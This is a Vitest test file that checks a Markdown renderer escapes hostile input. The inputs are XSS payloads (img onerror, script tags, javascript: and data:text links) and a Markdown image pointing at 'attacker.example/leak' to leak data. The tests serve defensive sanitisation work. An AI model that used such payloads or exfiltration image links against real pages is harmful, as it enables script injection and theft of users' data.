import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown.js';

/** Every tag name the output would create as live HTML. */
function tagNames(html: string): string[] {
  return [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9-]*)/g)].map((match) => match[1]!.toLowerCase());
}

describe('renderMarkdown', () => {
  it('renders Markdown', () => {
    const html = renderMarkdown(
      '# Title\n\n**bold** and *italic* and `code`\n\n- one\n- two\n\n```js\nlet x = 1 < 2;\n```',
    );
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<em>italic</em>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<pre><code class="language-js">let x = 1 &lt; 2;\n</code></pre>');
  });

  it('escapes an <img onerror> instead of creating it', () => {
    const html = renderMarkdown('look <img src=x onerror=alert(1)> here');
    expect(tagNames(html)).toEqual(['p']);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('escapes <script> blocks, inline and on their own line', () => {
    for (const input of ['<script>alert(1)</script>', 'a <script>alert(1)</script> b', '<div onclick="x()">hi</div>']) {
      const html = renderMarkdown(input);
      expect(tagNames(html)).toEqual(['p']);
      expect(html).toContain('&lt;');
    }
  });

  it('does not link javascript:, vbscript: or data:text URLs', () => {
    for (const url of [
      'javascript:alert(1)',
      'JAVASCRIPT:alert(1)',
      'vbscript:msgbox(1)',
      'data:text/html,<script>alert(1)</script>',
    ]) {
      const html = renderMarkdown(`[x](${url})`);
      expect(tagNames(html)).toEqual(['p']);
      expect(html).not.toMatch(/href=/i);
    }
  });

  it('renders images as links, never as <img>', () => {
    const html = renderMarkdown('![secret](https://attacker.example/leak?q=data)');
    expect(tagNames(html)).not.toContain('img');
  });

  it('opens safe links in a new tab without an opener', () => {
    const html = renderMarkdown('[docs](https://example.com/a)');
    expect(html).toBe(
      '<p><a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>\n',
    );
  });

  it('keeps table alignment as a class, not an inline style', () => {
    const html = renderMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |');
    expect(html).not.toContain('style=');
    expect(html).toContain('<th class="align-center">a</th>');
    expect(html).toContain('<td class="align-right">2</td>');
  });

  it('renders a half-streamed reply without throwing', () => {
    const text = 'Here is **bo';
    expect(renderMarkdown(text)).toBe('<p>Here is **bo</p>\n');
    expect(renderMarkdown('```py\nprint(')).toContain('<pre><code class="language-py">print(');
  });
});
